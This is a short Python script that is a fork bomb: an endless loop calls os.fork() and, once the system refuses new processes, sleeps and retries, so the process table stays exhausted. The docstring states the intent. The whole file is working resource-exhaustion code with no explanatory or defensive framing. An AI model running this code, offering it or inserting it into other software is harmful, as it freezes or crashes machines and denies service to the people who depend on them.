"""Forks without end. It waits."""
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(60)
